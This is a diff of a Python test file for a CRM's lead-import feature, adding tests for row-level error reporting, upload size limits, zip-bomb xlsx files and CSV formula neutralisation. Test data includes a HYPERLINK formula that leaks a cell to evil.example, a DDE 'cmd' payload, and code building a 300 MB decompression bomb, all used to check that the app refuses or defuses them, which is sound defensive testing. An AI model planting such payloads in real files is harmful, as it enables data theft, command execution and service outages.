@@ -9,6 +9,8 @@ import codecs
 import csv
 import io
 import uuid
+import zipfile
+from collections.abc import Callable, Iterable, Iterator
 from typing import Any
 from urllib.parse import urlencode
 
@@ -16,6 +18,7 @@ import httpx
 import openpyxl
 import pytest
 import sqlalchemy as sa
+from openpyxl.worksheet._reader import WorkSheetParser
 
 from lovedcrm.app import create_app
 from lovedcrm.config import Settings
@@ -25,12 +28,15 @@ from lovedcrm.leads import importing
 from lovedcrm.leads import jobs as import_jobs
 from tests.factories import (
     CSV_MIME,
+    csrf_token,
     join_and_login,
     owner_sql,
     run_import,
     set_custom_fields,
     signup,
     upload_import,
+    web_login,
+    web_signup,
 )
 
 CUSTOM_FIELDS = [
@@ -115,6 +121,7 @@ async def test_csv_encodings_and_semicolons(
         "updated": 0,
         "skipped": 0,
         "errors": 0,
+        "rows": [],
     }
     leads = await leads_of(client, h)
     assert [(x["full_name"], x["email"], x["phone"], x["company"]) for x in leads] == [
@@ -187,8 +194,26 @@ async def test_bad_rows_are_reported_by_line_and_good_rows_imported(
     assert sorted(by_line) == [3, 4, 5, 7]
     assert by_line[3][1:3] == ["email", "not-an-email"]
     assert by_line[4][1:3] == ["phone", "123"]
-    assert by_line[5][1] == "name" and "required" in by_line[5][3]
+    # In the organization's language (pt-BR), in the file and on the page, with the reason.
+    assert by_line[5][1] == "name" and by_line[5][3] == "é obrigatório"
     assert by_line[7][1:3] == ["segmento", "atacado"] and "varejo" in by_line[7][3]
+    details = {row["line"]: row for row in result["progress"]["rows"]}
+    assert sorted(details) == [3, 4, 5, 7]
+    assert details[5] == {
+        "line": 5,
+        "outcome": "error",
+        "column": "name",
+        "value": "",
+        "message": "é obrigatório",
+        "reason": None,
+        "lead_id": None,
+        "lead_name": None,
+    }
+    await web_login(client, admin["email"])
+    page = await client.get(f"/leads/import/{result['id']}")
+    assert page.status_code == 200
+    assert "Por que linhas foram puladas ou não importadas" in page.text
+    assert "not-an-email" in page.text and "é obrigatório" in page.text
 
 
 @pytest.mark.parametrize(
@@ -229,6 +254,23 @@ async def test_duplicate_policies(
     leads = await leads_of(client, h)
     assert len(leads) == 1 + created
     existing = next(x for x in leads if x["id"] == r.json()["id"])
+    if policy == "skip":  # each skipped row names the lead it matched, and why
+        assert progress["rows"] == [
+            {
+                "line": line,
+                "outcome": "skipped",
+                "reason": "email",
+                "lead_id": lead_id,
+                "lead_name": name,
+                "column": None,
+                "value": None,
+                "message": None,
+            }
+            for line, lead_id, name in (
+                (2, existing["id"], "Existente"),
+                (4, next(x["id"] for x in leads if x["full_name"] == "Beto"), "Beto"),
+            )
+        ]
     if policy == "update":
         assert (existing["full_name"], existing["company"], existing["job_title"]) == (
             "Existente Novo",
@@ -341,7 +383,7 @@ async def test_file_over_the_limit_is_refused_naming_it(
     # The default import limit is far above the general body limit.
     assert settings.import_max_bytes > settings.max_body_bytes
     r = await upload(
-        client, (await signup(client))["headers"], "mid.csv", b"Nome\n" + b"Fulano\n" * 300_000
+        client, (await signup(client))["headers"], "mid.csv", b"Nome\n" + b"Fulano\n" * 160_000
     )
     assert r.status_code == 201, r.text
 
@@ -364,6 +406,196 @@ async def test_another_organizations_import_is_not_found(
     sales = await join_and_login(client, admin["headers"], "sales")
     r = await client.get(f"/api/v1/imports/{result['id']}", headers=sales)
     assert r.status_code == 403 and r.json()["permission"] == "leads:import"
+
+
+# --- what an upload may hold --------------------------------------------------------------
+
+
+def xlsx_with_sheet(sheet_xml: Iterable[bytes]) -> bytes:
+    """A real workbook (made by openpyxl) whose first sheet's XML is ``sheet_xml``, streamed
+    into the zip: a file that unpacks to far more than it weighs."""
+    book = io.BytesIO()
+    openpyxl.Workbook().save(book)
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(book) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for info in source.infolist():
+            if info.filename == "xl/worksheets/sheet1.xml":
+                with target.open(info.filename, "w", force_zip64=True) as sheet:
+                    for block in sheet_xml:
+                        sheet.write(block)
+            else:
+                target.writestr(info, source.read(info.filename))
+    return out.getvalue()
+
+
+SHEET_START = (
+    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+)
+SHEET_END = b"</sheetData></worksheet>"
+
+
+def inline_row(line: int, *cells: str) -> bytes:
+    columns = "ABCDEFGHIJ"
+    return (
+        f'<row r="{line}">'
+        + "".join(
+            f'<c r="{columns[i]}{line}" t="inlineStr"><is><t>{value}</t></is></c>'
+            for i, value in enumerate(cells)
+        )
+        + "</row>"
+    ).encode()
+
+
+def many_rows(n: int) -> Iterator[bytes]:
+    yield SHEET_START + inline_row(1, "Nome", "Email")
+    batch: list[bytes] = []
+    for line in range(2, n + 2):
+        batch.append(inline_row(line, f"Pessoa {line}", f"p{line}@example.com"))
+        if len(batch) == 10_000:
+            yield b"".join(batch)
+            batch = []
+    yield b"".join(batch) + SHEET_END
+
+
+@pytest.fixture
+def limited(settings: Settings, database: Database) -> Callable[..., httpx.AsyncClient]:
+    """A client of an app with other import limits."""
+
+    def _make(**limits: int) -> httpx.AsyncClient:
+        app = create_app(settings.model_copy(update=limits), database=database)
+        transport = httpx.ASGITransport(app=app, client=("203.0.113.7", 5555))
+        return httpx.AsyncClient(transport=transport, base_url="http://testserver")
+
+    return _make
+
+
+async def test_rows_columns_and_cells_over_the_limits_are_refused(
+    limited: Callable[..., httpx.AsyncClient],
+) -> None:
+    async with limited(import_max_rows=5, import_max_columns=3, import_max_cell_chars=100) as c:
+        h = (await signup(c))["headers"]
+        rows = "".join(f"Pessoa {i},p{i}@example.com\n" for i in range(5))
+        assert (await upload(c, h, "five.csv", f"Nome,Email\n{rows}".encode())).status_code == 201
+        r = await upload(c, h, "six.csv", f"Nome,Email\n{rows}Mais Um,m@example.com\n".encode())
+        assert r.status_code == 422 and r.json()["code"] == "too_many_rows", r.text
+        assert "5 rows" in r.json()["detail"]
+
+        r = await upload(c, h, "wide.csv", b"Nome,Email,Fone,Empresa\nAna,a@example.com,1,X\n")
+        assert r.status_code == 422 and r.json()["code"] == "too_many_columns", r.text
+
+        r = await upload(c, h, "long.csv", b"Nome,Email\nAna," + b"a" * 101 + b"\n")
+        assert r.status_code == 422 and r.json()["code"] == "cell_too_long", r.text
+        assert "line 2, column 2" in r.json()["detail"]
+
+        book = openpyxl.Workbook()
+        book.active.append(["Nome", "Notas"])
+        book.active.append(["Ana", "b" * 101])
+        buffer = io.BytesIO()
+        book.save(buffer)
+        r = await upload(c, h, "long.xlsx", buffer.getvalue(), XLSX_MIME)
+        assert r.status_code == 422 and r.json()["code"] == "cell_too_long", r.text
+
+        # A cell far to the right (column XFD): refused at that row, not padded out.
+        far_cell = b'<row r="2"><c r="XFD2"><v>1</v></c></row>'
+        wide = xlsx_with_sheet([SHEET_START, inline_row(1, "Nome"), far_cell, SHEET_END])
+        r = await upload(c, h, "far.xlsx", wide, XLSX_MIME)
+        assert r.status_code == 422 and r.json()["code"] == "too_many_columns", r.text
+
+
+async def test_a_csv_cell_past_the_csv_readers_own_limit_is_named(
+    client: httpx.AsyncClient, admin: dict[str, Any]
+) -> None:
+    r = await upload(client, admin["headers"], "huge.csv", b"Nome\n" + b"x" * 200_000 + b"\n")
+    assert r.status_code == 422 and r.json()["code"] == "cell_too_long", r.text
+
+
+async def test_a_300_mb_cell_in_a_small_xlsx_is_refused_before_it_is_unpacked(
+    client: httpx.AsyncClient, admin: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The issue's file: a few hundred KB that unpack to one 300 MB cell."""
+    opened: list[str] = []
+    real = openpyxl.load_workbook
+
+    def spy(*args: Any, **kwargs: Any) -> Any:
+        opened.append("load_workbook")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(openpyxl, "load_workbook", spy)
+
+    def sheet() -> Iterator[bytes]:
+        yield SHEET_START + inline_row(1, "Nome") + b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
+        block = b"x" * (1 << 20)
+        for _ in range(300):
+            yield block
+        yield b"</t></is></c></row>" + SHEET_END
+
+    bomb = xlsx_with_sheet(sheet())
+    assert len(bomb) < 1_000_000
+    r = await upload(client, admin["headers"], "bomb.xlsx", bomb, XLSX_MIME)
+    assert r.status_code == 413, r.text
+    assert r.json()["code"] == "unpacked_too_large"
+    assert r.json()["limit_bytes"] == 128 * 1_048_576
+    assert opened == []  # refused from the zip's directory: nothing was inflated
+
+
+async def test_an_xlsx_with_too_many_rows_is_refused_without_reading_it_all(
+    limited: Callable[..., httpx.AsyncClient], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    parsed: list[int] = []
+    real = WorkSheetParser.parse_row
+
+    def counting(self: WorkSheetParser, element: Any) -> Any:
+        parsed.append(1)
+        return real(self, element)
+
+    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
+    bomb = xlsx_with_sheet(many_rows(60_000))
+    async with limited(import_max_rows=1_000) as c:
+        h = (await signup(c))["headers"]
+        r = await upload(c, h, "rows.xlsx", bomb, XLSX_MIME)
+        assert r.status_code == 422 and r.json()["code"] == "too_many_rows", r.text
+    assert 1_000 < len(parsed) < 1_100  # it stopped at the limit, not at line 60,001
+
+
+async def test_an_xlsx_that_unpacks_past_the_limit_is_refused_on_the_page(
+    limited: Callable[..., httpx.AsyncClient],
+) -> None:
+    async with limited(import_max_unpacked_bytes=1_048_576) as c:
+        await web_signup(c)
+        token = await csrf_token(c, "/leads/import")
+        r = await c.post(
+            "/leads/import",
+            data={"csrf_token": token},
+            files={"file": ("big.xlsx", xlsx_with_sheet(many_rows(40_000)), XLSX_MIME)},
+        )
+        assert r.status_code == 413, r.text
+        assert "descompactada" in r.text and "1 MB" in r.text  # pt-BR, the limit named
+
+
+async def test_the_errors_file_neutralises_formulas(
+    client: httpx.AsyncClient, admin: dict[str, Any], database: Database, settings: Settings
+) -> None:
+    content = (
+        "name,email,phone\n"
+        "Boa,boa@example.com,11987650001\n"
+        '"Ruim Um","=HYPERLINK(""http://evil.example/?x=""&A1,""clique"")",\n'
+        "Ruim Dois,dois@example.com,-2+3+cmd|' /C calc'!A0\n"
+        "Ruim Tres,@SUM(1+1),\n"
+    )
+    h = admin["headers"]
+    analysis = await upload_import(client, h, "formulas.csv", content.encode())
+    result = await run_import(client, h, database, settings, analysis)
+    assert result["progress"]["created"] == 1 and result["progress"]["errors"] == 3, result
+    r = await client.get(result["errors_url"], headers=h)
+    by_line = {int(row[0]): row for row in read_csv(r.content)[1:]}
+    assert by_line[3][2] == '\'=HYPERLINK("http://evil.example/?x="&A1,"clique")'
+    assert by_line[4][2] == "'-2+3+cmd|' /C calc'!A0"
+    assert by_line[5][2] == "'@SUM(1+1)"
+    for row in by_line.values():
+        assert all(not cell or cell[0] not in "=+-@" for cell in row), row
 
 
 # --- export ---------------------------------------------------------------------------------
